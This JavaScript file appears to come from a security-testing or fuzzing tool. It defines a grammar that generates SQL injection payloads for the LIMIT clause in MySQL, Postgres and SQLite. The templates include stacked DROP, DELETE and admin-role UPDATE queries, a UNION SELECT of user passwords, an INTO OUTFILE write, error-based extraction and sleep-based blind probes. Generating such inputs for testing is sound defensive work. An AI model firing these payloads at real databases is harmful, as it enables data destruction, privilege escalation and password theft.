import { LIMIT } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** What can follow a LIMIT: another query, a file, a subquery as the number. */
export const limitClause = sqlGenerator({
  name: 'limit-clause',
  places: [LIMIT],
  rules: {
    start: [
      '{digit};{second}{comment}',
      '{digit}; {second} {comment}',
      '{tail}',
      '(SELECT COUNT(*) FROM users)',
      '(SELECT LENGTH(password) FROM users LIMIT 1)',
      '{digit}{offset}',
    ],
    offset: [' OFFSET (SELECT 1)', ' OFFSET LENGTH({secret})'],
    second: [
      'DROP TABLE messages',
      'SELECT * FROM users',
      "UPDATE users SET role='admin'",
      'SELECT {sleep}',
      'DELETE FROM users WHERE id={digit}',
    ],
    tail: ['{digit};SELECT {all}{comment}'],
  },
  byDialect: {
    mysql: {
      tail: [
        '{digit} PROCEDURE ANALYSE(EXTRACTVALUE({scan},{joined}),1)',
        '{digit},{digit} UNION SELECT {digit},name,password FROM users',
        "{digit} INTO OUTFILE '/tmp/{tag}'",
        '{digit} INTO @{tag},@{tag},@{tag}',
        '{digit} PROCEDURE ANALYSE((SELECT EXTRACTVALUE(1,{joined})),1)',
        '{digit} FOR UPDATE{comment}',
        '{digit} ROWS EXAMINED {digit}',
      ],
    },
    postgres: {
      tail: [
        '{digit} OFFSET {length}',
        '(CASE WHEN {length}>{digit} THEN 1 ELSE 2 END)',
        '(SELECT CAST({secret} AS int))',
        '{digit}+(SELECT 1)',
        '(SELECT 1 FROM PG_SLEEP({sec}))',
      ],
    },
    sqlite: {
      tail: [
        '{digit},(SELECT 1)',
        '(CASE WHEN {length}>{digit} THEN 1 ELSE 2 END)',
        '{digit}+(SELECT 1)',
        '{digit} OFFSET UNICODE({secret})-97',
        'IIF({length}>{digit},1,2)',
      ],
    },
  },
});
